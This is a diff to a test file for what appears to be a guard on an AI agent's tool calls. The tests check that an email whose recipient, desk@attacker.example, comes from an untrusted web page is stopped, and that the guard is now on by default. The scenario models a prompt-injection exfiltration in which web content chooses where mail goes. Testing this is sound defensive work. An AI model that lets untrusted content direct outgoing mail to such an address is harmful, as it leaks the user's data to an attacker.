@@ -186,7 +186,9 @@ describe('untrusted text decides nothing', () => {
     const client = await talk('web_get_page');
     const message = await client.call('mail_send_email', given);
     expectStop(message, 'ask', 'untrusted-decides');
-    expect(textOf(message)).toMatch(/The argument "\/to" .* from a result of "web\.get_page" \(call [^)]+\)/);
+    expect(textOf(message)).toMatch(
+      /The recipient desk@attacker\.example comes from web\.get_page, which is untrusted\. .* \(argument "\/to", result of call /,
+    );
     const verdict = (message.result?.['_meta'] as Record<string, Record<string, string>> | undefined)?.[
       'dev.sallyport/verdict'
     ];
@@ -233,7 +235,7 @@ describe('runs', () => {
   });
 });
 
-test('off is off, and the set of policies alone switches it on', async () => {
+test('on unless it is switched off', async () => {
   const web = await server('web', ['get_page', 'send_email']);
   const mcpServers = { web: { url: web.url } };
   const stops = async (sections: Record<string, unknown>) => {
@@ -242,7 +244,8 @@ test('off is off, and the set of policies alone switches it on', async () => {
     const { result } = await client.call('web_send_email', { to: 'desk@attacker.example' });
     return result?.['isError'] === true;
   };
-  expect(await stops({})).toBe(false);
+  expect(await stops({})).toBe(true);
+  expect(await stops({ taint: { mode: 'off' } })).toBe(false);
   expect(await stops({ policy: { set: 'laptop' }, taint: { mode: 'off' } })).toBe(false);
   expect(await stops({ policy: { set: 'laptop' } })).toBe(true);
 });
